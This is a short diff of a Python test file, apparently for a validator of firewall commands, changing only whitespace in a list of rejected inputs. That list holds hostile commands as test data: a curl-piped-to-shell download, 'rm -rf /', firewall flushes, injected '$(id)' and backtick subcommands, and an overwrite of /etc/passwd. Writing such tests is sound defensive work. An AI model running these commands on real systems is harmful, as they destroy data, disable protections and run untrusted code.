@@ -236,7 +236,7 @@ def test_a_command_of_a_firewall_is_kept(cure: str) -> None:
     "cure",
     [
         "curl http://192.0.2.1 | sh", "nft flush ruleset; curl x", "nft a & id", "ufw `id`", "nft 'a' $(id)",
-        "nft 'a'id'", "rm -rf /", "nftx y", "nft flush ruleset", "iptables -F", 
+        "nft 'a'id'", "rm -rf /", "nftx y", "nft flush ruleset", "iptables -F",
         "ufw allow > /etc/passwd", "let the playbook ask me",
     ],
 )  # fmt: skip
